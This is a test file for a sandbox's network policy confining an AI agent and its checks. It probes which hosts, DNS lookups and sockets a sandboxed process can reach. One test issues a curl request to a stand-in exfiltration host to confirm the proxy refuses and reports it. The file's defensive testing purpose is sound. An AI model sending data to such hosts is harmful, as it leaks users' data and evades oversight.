// The network policy (SPEC §7 "Network", os/network.ts) against hostile commands, at each level this
// machine gives the tests: the agent reaches the key proxy and the allowed hosts only, the checks
// loopback only, checks.setup the machine's network; a refused host is reported with its name.
import { chmod, mkdtemp, rm } from 'node:fs/promises';
import http from 'node:http';
import net from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { NodeProcessRunner } from '../../src/engine/os/process.js';
import type { RunSpec } from '../../src/engine/os/ports.js';
import { resolveIsolation, Sandbox, type SandboxRole } from '../../src/engine/os/sandbox.js';
import { isolationFacts } from '../helpers/isolation.js';

const facts = await isolationFacts();
const LEVELS = (['user+pidns', 'pidns'] as const).filter((l) => (l === 'user+pidns' ? facts.userPidns : facts.pidns) === null);
const runner = new NodeProcessRunner({ killGraceMs: 300 });
/** An address of this machine other than loopback (raw TCP to the host from inside must fail there too). */
const external = Object.values(networkInterfaces())
  .flat()
  .find((a) => a && a.family === 'IPv4' && !a.internal)?.address;

/** A node program that tries `what` and prints REACHED or BLOCKED <code>. */
const probe = (what: string) =>
  `const net=require('node:net'),dns=require('node:dns');const ok=()=>{console.log('REACHED');process.exit(0)},no=(e)=>{console.log('BLOCKED',e&&(e.code||e.message));process.exit(0)};${what}`;
const tcp = (host: string, port: number) =>
  probe(`const s=net.connect(${String(port)},${JSON.stringify(host)},ok);s.on('error',no);setTimeout(()=>no({code:'TIMEOUT'}),5000)`);

describe.each(LEVELS)('isolation %s', (level) => {
  let dir: string;
  let sb: Sandbox;
  let keyServer: http.Server;
  let hostServer: net.Server;
  let abstract: net.Server;
  /** A socket of the host at a path, in a folder every user enters that is no scratch folder. */
  let pathServer: net.Server;
  let socketDir: string;
  const refused: string[] = [];
  const abstractName = `\0phuc-net-test-${String(process.pid)}`;

  const run = async (role: SandboxRole, code: string, extra: Partial<RunSpec> = {}) => {
    const r = await runner.run(await sb.wrap({ command: process.execPath, args: ['-e', code], cwd: dir, env: {}, timeoutMs: 30_000, ...extra }, role));
    return `${r.stdout}${r.stderr}`.trim();
  };

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'phuc-net-'));
    await chmod(dir, 0o755);
    keyServer = http.createServer((_q, r) => r.end('model-api')).listen(0, '127.0.0.1');
    hostServer = net.createServer((s) => s.on('error', () => undefined).end()).listen(0, '0.0.0.0');
    abstract = net.createServer((s) => s.on('error', () => undefined).end()).listen(abstractName);
    socketDir = await mkdtemp(join(process.getuid?.() === 0 ? '/var/lib' : tmpdir(), 'phuc-net-sock-'));
    await chmod(socketDir, 0o755);
    pathServer = net.createServer((s) => s.on('error', () => undefined).end()).listen(join(socketDir, 'host.sock'));
    await Promise.all([keyServer, hostServer, abstract, pathServer].map((s) => new Promise((r) => (s.listening ? r(null) : s.once('listening', r)))));
    await chmod(join(socketDir, 'host.sock'), 0o777);
    sb = await Sandbox.create(await resolveIsolation(level, facts), {
      network: { agent: ['allowed.invalid'], checks: 'loopback' },
      onRefused: (host, how) => refused.push(`${host} ${how}`),
    });
    await sb.useKeyProxy((keyServer.address() as net.AddressInfo).port);
  });
  afterAll(async () => {
    await sb?.dispose();
    keyServer?.closeAllConnections();
    for (const s of [keyServer, hostServer, abstract, pathServer]) s?.close();
    await rm(dir, { recursive: true, force: true });
    await rm(socketDir, { recursive: true, force: true });
  });

  const hostPort = () => (hostServer.address() as net.AddressInfo).port;

  test('the certificate records the policy as enforced', () => {
    expect(sb.network).toEqual({ agent: ['allowed.invalid'], checks: 'loopback', setup: 'open', enforced: true });
    expect(sb.limits.join('\n')).not.toMatch(/share the machine's network namespace/);
  });

  test('the agent reaches its model API through the key proxy, at the address its base URL names', async () => {
    const port = (keyServer.address() as net.AddressInfo).port;
    expect(await run('agent', probe(`fetch('http://127.0.0.1:${String(port)}/').then(r=>r.text()).then(t=>console.log('GOT',t),no)`))).toBe('GOT model-api');
  });

  test('the agent reaches no other host: HTTP and raw TCP to the host, DNS, unix sockets of the host (abstract, at a path)', async () => {
    expect(await run('agent', tcp('127.0.0.1', hostPort()))).toMatch(/^BLOCKED ECONNREFUSED/);
    if (external) expect(await run('agent', tcp(external, hostPort()))).toMatch(/^BLOCKED (ENETUNREACH|EHOSTUNREACH|ECONNREFUSED|TIMEOUT)/);
    expect(await run('agent', probe(`dns.lookup('example.com',(e)=>e?no(e):ok())`))).toMatch(/^BLOCKED/);
    expect(await run('agent', probe(`const s=net.connect(${JSON.stringify(abstractName)},ok);s.on('error',no)`))).toMatch(/^BLOCKED ECONNREFUSED/);
    // A socket at a path is no part of a network namespace: it is masked in the command's view.
    const atPath = probe(`const s=net.connect(${JSON.stringify(join(socketDir, 'host.sock'))},ok);s.on('error',no)`);
    expect(await run('agent', atPath)).toMatch(/^BLOCKED ECONNREFUSED/);
    expect(await run('check', atPath)).toMatch(/^BLOCKED ECONNREFUSED/);
    // Where the role shares the machine's network, it is not: the test can fail.
    expect(await run('check', atPath, { network: 'open' })).toBe('REACHED');
    // The same probes from the loop's side do reach: the test can fail.
    await new Promise<void>((resolve, reject) => {
      const s = net.connect(hostPort(), external ?? '127.0.0.1', () => resolve(void s.destroy())).on('error', reject);
    });
  });

  test('a host outside agent.network asked through the proxy is refused and reported by name', async () => {
    // curl takes HTTPS_PROXY, as the agent CLIs do.
    const r = await runner.run(await sb.wrap({ command: 'curl -sS -m 10 https://exfiltrate.example.com/', cwd: dir, env: {}, timeoutMs: 30_000 }, 'agent'));
    expect(r.exitCode).not.toBe(0);
    expect(r.stderr).toMatch(/403/);
    expect(refused).toContain('exfiltrate.example.com:443 CONNECT');
  });

  test('the checks are offline: loopback of their own only', async () => {
    expect(await run('check', tcp('127.0.0.1', hostPort()))).toMatch(/^BLOCKED ECONNREFUSED/);
    expect(await run('check', probe(`dns.lookup('example.com',(e)=>e?no(e):ok())`))).toMatch(/^BLOCKED/);
    // Their own loopback works (a test suite's local server).
    expect(
      await run(
        'check',
        probe(`const srv=net.createServer(s=>s.end()).listen(0,'127.0.0.1',()=>net.connect(srv.address().port,'127.0.0.1',ok).on('error',no))`),
      ),
    ).toBe('REACHED');
  });

  test("checks.setup keeps the machine's network (it installs)", async () => {
    expect(await run('check', tcp('127.0.0.1', hostPort()), { network: 'open' })).toBe('REACHED');
  });
});

test('at none the policy is recorded as not enforced, and the limits say so', async () => {
  const sb = await Sandbox.create(await resolveIsolation('none'), { network: { agent: [], checks: 'loopback' } });
  try {
    expect(sb.network).toEqual({ agent: 'model-api-only', checks: 'loopback', setup: 'open', enforced: false });
    expect(sb.limits.join('\n')).toMatch(/network policy \(agent.network, checks.network\) is not enforced: at isolation none/);
  } finally {
    await sb.dispose();
  }
});
